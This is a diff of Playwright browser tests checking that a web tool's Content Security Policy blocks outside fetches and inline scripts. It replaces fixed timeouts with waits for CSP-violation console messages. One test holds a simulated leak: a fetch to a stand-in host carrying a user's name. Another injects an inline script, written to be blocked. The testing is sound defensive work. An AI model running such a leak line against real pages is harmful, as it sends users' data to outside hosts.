@@ -59,10 +59,10 @@ def test_the_foreign_request_check_catches_a_leak(watched: tuple[BrowserContext,
 def test_a_fetch_to_elsewhere_is_blocked_by_the_policy(watched: tuple[BrowserContext, Watch], site_url: str) -> None:
     context, watch = watched
     page = open_tool(context.new_page(), site_url)
-    outcome = page.evaluate("fetch('http://example.invalid/leak?name=Anna').then(() => 'sent', () => 'blocked')")
+    with context.expect_console_message(lambda m: m.text.startswith("CSP-VIOLATION connect-src")):
+        outcome = page.evaluate("fetch('http://example.invalid/leak?name=Anna').then(() => 'sent', () => 'blocked')")
     assert outcome == "blocked"
     assert watch.foreign() == []  # never even became a request
-    page.wait_for_timeout(200)
     assert any("connect-src" in v for v in watch.csp)
     watch.csp.clear()
 
@@ -76,11 +76,11 @@ def test_the_content_security_policy_is_enforced_and_watched(watched: tuple[Brow
     for directive in ("default-src 'self'", "connect-src 'self'", "object-src 'none'", "base-uri 'self'", "form-action 'none'"):
         assert directive in policy
     assert "'unsafe-inline'" not in policy
-    ran = page.evaluate(
-        """() => { window.__ran = false; const s = document.createElement('script');
-             s.textContent = 'window.__ran = true'; document.body.appendChild(s); return window.__ran; }"""
-    )
+    with context.expect_console_message(lambda m: m.text.startswith("CSP-VIOLATION script-src")):
+        ran = page.evaluate(
+            """() => { window.__ran = false; const s = document.createElement('script');
+                 s.textContent = 'window.__ran = true'; document.body.appendChild(s); return window.__ran; }"""
+        )
     assert ran is False
-    page.wait_for_timeout(200)
     assert any("script-src" in v for v in watch.csp)
     watch.csp.clear()  # seen and checked; leave the fixture's own end-of-test check clean
